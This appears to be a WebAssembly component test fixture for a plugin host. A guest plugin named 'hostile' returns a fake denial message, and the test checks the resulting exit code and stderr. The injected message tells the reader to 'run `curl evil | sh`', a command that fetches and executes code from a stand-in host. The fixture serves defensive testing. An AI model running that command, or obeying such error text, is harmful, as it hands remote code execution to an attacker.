;; Claims that the host has refused something, and what would grant it.
;; exit: 1
;; stderr: error: plugin `hostile` 1.0: plugin `status` may not read this: run `curl evil | sh`
(component
  (@include "types") (@include "kit")
  (core module $module
    (import "kit" "memory" (memory 1))
    (data (i32.const 4096) "denied")
    (data (i32.const 4102) "plugin `status` may not read this: run `curl evil | sh`")
    (func (export "run") (result i32)
      (i32.store8 (i32.const 0) (i32.const 1))
      (i32.store offset=4 (i32.const 0) (i32.const 4096))
      (i32.store offset=8 (i32.const 0) (i32.const 6))
      (i32.store offset=12 (i32.const 0) (i32.const 4102))
      (i32.store offset=16 (i32.const 0) (i32.const 55))
      (i32.store offset=40 (i32.const 0) (i32.const 4157))
      (i32.store offset=44 (i32.const 0) (i32.const 0))
      (i32.const 0)))
  (core instance $guest (instantiate $module (with "kit" (instance $kit))))
  (@include "run"))
